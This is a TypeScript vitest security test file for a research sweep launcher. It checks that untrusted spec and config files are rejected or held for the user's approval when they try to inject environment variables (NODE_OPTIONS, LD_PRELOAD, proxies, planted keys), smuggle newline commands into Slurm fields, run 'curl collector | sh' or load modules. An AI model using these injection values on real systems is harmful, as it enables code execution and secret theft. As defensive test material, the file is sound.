import { Type } from '@sinclair/typebox';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { Job } from '../../src/launch/launcher';
import { RayLauncher } from '../../src/launch/ray-launcher';
import { slurmScript } from '../../src/launch/slurm-script';
import { definePipeline } from '../../src/pipeline';
import { prepareSweep, readSweep } from '../../src/run/prepare-sweep';
import { renderJobs, runSweep } from '../../src/run/run-sweep';
import { Leave, LeaveNeededError, projectRequest, specRequest } from '../../src/spec/leave';
import type { RayProfile, SlurmProfile } from '../../src/spec/profile-schema';
import { readProjectConfig } from '../../src/spec/project-config';

const HEAD = 'schema: study/sweep@1\nname: planted\nconfig: {}\n';
const here = process.cwd();

let folder: string;
let checkout: string;
let spec: string;
let leave: Leave;

const pipeline = () =>
  definePipeline({
    name: 'study',
    config: Type.Object({}),
    stages: [],
    worker: [join(folder, 'worker.mjs')],
  });

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'omnict-hostile-'));
  checkout = join(folder, 'checkout');
  mkdirSync(checkout);
  process.chdir(checkout);
  spec = join(checkout, 'study.yaml');
  leave = Leave.of('study', { XDG_CONFIG_HOME: join(folder, 'config') });
});
afterEach(() => {
  process.chdir(here);
  rmSync(folder, { recursive: true, force: true });
});

const write = (text: string): void => writeFileSync(spec, `${HEAD}${text}`);
const proof = (): string => join(folder, 'owned');

/** A module whose loading leaves a proof. */
function writeModule(): void {
  writeFileSync(
    join(checkout, 'parts.mjs'),
    `import { writeFileSync } from 'node:fs';
writeFileSync(${JSON.stringify(proof())}, '');
export const register = () => undefined;`,
  );
}

describe("a profile of somebody else's spec", () => {
  it.each([
    ['NODE_OPTIONS', '--require ./owned.cjs'],
    ['NODE_PATH', '.'],
    ['LD_PRELOAD', './owned.so'],
    ['DYLD_INSERT_LIBRARIES', './owned.dylib'],
    ['PATH', '.'],
    ['BASH_ENV', './owned.sh'],
    ['ENV', './owned.sh'],
    ['PYTHONPATH', '.'],
    ['NODE_TLS_REJECT_UNAUTHORIZED', '0'],
    ['HTTPS_PROXY', 'http://collector'],
    ['MLFLOW_TRACKING_URI', 'http://collector'],
    ['XDG_CONFIG_HOME', '.'],
    ['OPENAI_API_KEY', 'planted'],
    ['AWS_SECRET_ACCESS_KEY', 'planted'],
    ['db_password', 'planted'],
    ['X=1; touch owned; export Y', '1'],
    ['X\nexport NODE_OPTIONS', '1'],
    ['', '1'],
    ['1X', '1'],
  ])('cannot set the variable %j', async (name, value) => {
    write(
      `launcher: own\nprofiles: { own: { type: local, environment: { ${JSON.stringify(name)}: ${JSON.stringify(value)} } } }\n`,
    );
    await expect(readSweep(pipeline(), spec, { leave })).rejects.toThrow(
      /no name that may be set here/,
    );
  });

  it.each([
    ['a value with a second line', 'environment: { TEXT: "1\\nexport NODE_OPTIONS=x" }'],
    ['a partition with a second line', 'partition: "main\\n#SBATCH --wrap=owned"'],
    ['a partition with another option', 'partition: "main --wrap=owned"'],
    ['an account with a second line', 'account: "a\\ntouch owned"'],
    ['a quality of service with a second line', 'qos: "a\\ntouch owned"'],
    ['an option with a second line', 'options: ["--time=1\\ntouch owned"]'],
    ['a set-up with a second line', 'setup: ["true\\ntouch owned"]'],
    ['a set-up that ends the terminal line', 'setup: ["true\\rtouch owned"]'],
  ])('cannot have %s', async (_, settings) => {
    write(`launcher: own\nprofiles: { own: { type: slurm, ${settings} } }\n`);
    await expect(readSweep(pipeline(), spec, { leave })).rejects.toThrow(/must match pattern/);
  });

  it.each([
    ['variables', '{ type: local, environment: { ANY: "1" } }'],
    ['shell lines', '{ type: slurm, setup: ["curl collector | sh"] }'],
    ['options of a scheduler', '{ type: slurm, options: ["--output=/users/you/.bashrc"] }'],
    ['an address that gets the code', '{ type: ray, address: "http://collector" }'],
  ])('starts nothing with its %s before somebody allows it', async (_, profile) => {
    write(`launcher: own\nprofiles: { own: ${profile} }\n`);
    const sweep = await prepareSweep(pipeline(), spec, { leave });
    await expect(runSweep(sweep)).rejects.toThrow(LeaveNeededError);
    await expect(runSweep(sweep)).rejects.toThrow(`study allow '${spec}'`);
    expect(existsSync(sweep.runFolder)).toBe(false);
    await expect(renderJobs(sweep)).resolves.toBe(''); // looking at it is free

    leave.grant(specRequest(spec));
    expect((await prepareSweep(pipeline(), spec, { leave })).unallowed).toBeUndefined();
  });

  it('that changed needs leave again, and so does the same in another folder', async () => {
    write('launcher: own\nprofiles: { own: { type: ray, address: "http://good" } }\n');
    leave.grant(specRequest(spec));
    write('launcher: own\nprofiles: { own: { type: ray, address: "http://bad" } }\n');
    expect((await readSweep(pipeline(), spec, { leave })).unallowed).toBeDefined();
    const elsewhere = join(folder, 'elsewhere');
    mkdirSync(elsewhere);
    write('launcher: own\nprofiles: { own: { type: ray, address: "http://good" } }\n');
    writeFileSync(join(elsewhere, 'study.yaml'), readFileSync(spec));
    const copied = await readSweep(pipeline(), join(elsewhere, 'study.yaml'), { leave });
    expect(copied.unallowed).toBeDefined();
    expect((await readSweep(pipeline(), spec, { leave })).unallowed).toBeUndefined();
  });

  it('that only shares out this machine needs no leave', async () => {
    write('launcher: own\nprofiles: { own: { type: local, slots: { cpus: 1 } } }\n');
    expect((await readSweep(pipeline(), spec, { leave })).unallowed).toBeUndefined();
  });

  it('reaches a batch script of another program as one line or not at all', () => {
    const profile: SlurmProfile = {
      type: 'slurm',
      resources: {},
      environment: {},
      options: [],
      setup: [],
      graceSeconds: 90,
      pollSeconds: 5,
      lostSeconds: 120,
    };
    const task = { stage: 'model', environment: {} };
    const job = { task, folder: "/it's/$(here)", resources: {} } as unknown as Job;
    const script = (own: Partial<SlurmProfile>): string =>
      slurmScript({
        name: 'n',
        jobs: [job],
        maxParallel: 1,
        entry: ['w.mjs'],
        profile: { ...profile, ...own },
      });
    vi.stubEnv('OMNICT_JUDGE_API_KEY', 'planted-secret');
    vi.stubEnv('OMNICT_ENGINE', 'wasm');
    expect(script({})).not.toContain('planted-secret');
    expect(script({})).toContain('#SBATCH --export=OMNICT_JUDGE_API_KEY\n');
    expect(script({})).toContain("export OMNICT_ENGINE='wasm'");
    vi.unstubAllEnvs();
    expect(script({})).toContain('#SBATCH --export=NIL\n');
    expect(script({})).toContain(`folders=('/it'\\''s/$(here)')`);
    expect(() => script({ partition: 'a\ntouch owned' })).toThrow(/control characters/);
    expect(() => script({ setup: ['a\ntouch owned'] })).toThrow(/control characters/);
    expect(() => script({ environment: { 'A;touch owned;B': '' } })).toThrow(
      /no name of a variable/,
    );
  });
});

describe('a Ray cluster', () => {
  it('gets no secret with a job, which it would show', () => {
    const task = { stage: 'model', key: 'k', environment: {} };
    const job = { task, folder: '/run/job', resources: {} } as unknown as Job;
    const profile = {
      type: 'ray',
      address: 'http://127.0.0.1:8265',
      headers: {},
      environment: { TEXT: 'x' },
    } as unknown as RayProfile;
    const launcher = new RayLauncher({ entry: ['w.mjs'], maxParallel: 1, profile });
    vi.stubEnv('OMNICT_JUDGE_API_KEY', 'planted-secret');
    vi.stubEnv('OMNICT_ENGINE', 'wasm');
    const submission = launcher.render([job]);
    vi.unstubAllEnvs();
    expect(submission).not.toMatch(/planted-secret|API_KEY/);
    expect(submission).toContain('"OMNICT_ENGINE": "wasm"');
    expect(submission).toContain('"TEXT": "x"');
  });
});

describe("the project's config of somebody else's folder", () => {
  const config = (): string => join(checkout, 'study.config.yaml');

  beforeEach(() => {
    writeModule();
    writeFileSync(config(), 'components: [./parts.mjs]\n');
    write('components: [./parts.mjs]\n');
  });

  it('lets no module run when a spec is only looked at', async () => {
    await expect(readSweep(pipeline(), spec, { leave })).rejects.toThrow(LeaveNeededError);
    await expect(prepareSweep(pipeline(), spec, { leave })).rejects.toThrow(/load the code of/);
    expect(existsSync(proof())).toBe(false);
  });

  it('tells the command that gives leave, and then lets it run', async () => {
    await expect(readSweep(pipeline(), spec, { leave })).rejects.toThrow(
      `study allow '${config()}'`,
    );
    leave.grant(projectRequest('study', readProjectConfig('study')));
    await readSweep(pipeline(), spec, { leave });
    expect(existsSync(proof())).toBe(true);
  });

  it('keeps the leave outside of the checkout, for this user alone', () => {
    leave.grant(projectRequest('study', readProjectConfig('study')));
    const file = join(folder, 'config', 'study', 'leave.json');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(readFileSync(file, 'utf8')).toContain(checkout);
  });

  it('asks again once a module has changed', () => {
    leave.grant(projectRequest('study', readProjectConfig('study')));
    writeFileSync(join(checkout, 'parts.mjs'), 'export const register = () => process.exit();');
    expect(leave.has(projectRequest('study', readProjectConfig('study')))).toBe(false);
  });

  it('does not give itself leave', async () => {
    const request = projectRequest('study', readProjectConfig('study'));
    for (const name of ['leave.json', 'study/leave.json', '.config/study/leave.json']) {
      mkdirSync(join(checkout, name, '..'), { recursive: true });
      writeFileSync(join(checkout, name), JSON.stringify({ [checkout]: [request.digest] }));
    }
    await expect(readSweep(pipeline(), spec, { leave })).rejects.toThrow(LeaveNeededError);
  });

  it('starts nothing by its profiles without leave', async () => {
    writeFileSync(config(), 'profiles: { own: { type: slurm, setup: ["touch owned"] } }\n');
    write('launcher: own\n');
    const sweep = await prepareSweep(pipeline(), spec, { leave });
    await expect(runSweep(sweep)).rejects.toThrow(/profile 'own'/);
  });

  it('shows what it asks for without obeying it', async () => {
    writeFileSync(config(), 'components: ["./\\e[2Jparts.mjs"]\n');
    write('components: ["./\\e[2Jparts.mjs"]\n');
    await expect(readSweep(pipeline(), spec, { leave })).rejects.toThrow(/\\u001b\[2Jparts/);
  });
});
